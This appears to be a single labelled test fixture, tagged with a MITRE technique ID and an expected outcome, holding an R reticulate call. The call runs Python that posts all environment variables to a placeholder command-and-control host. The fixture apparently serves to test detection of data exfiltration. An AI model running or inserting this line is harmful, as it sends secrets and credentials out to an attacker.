# expect: environment-sent-away | source: T1059.006
reticulate::py_run_string("import os, urllib.request\nurllib.request.urlopen('https://c2.example.invalid/', data=str(os.environ).encode())")
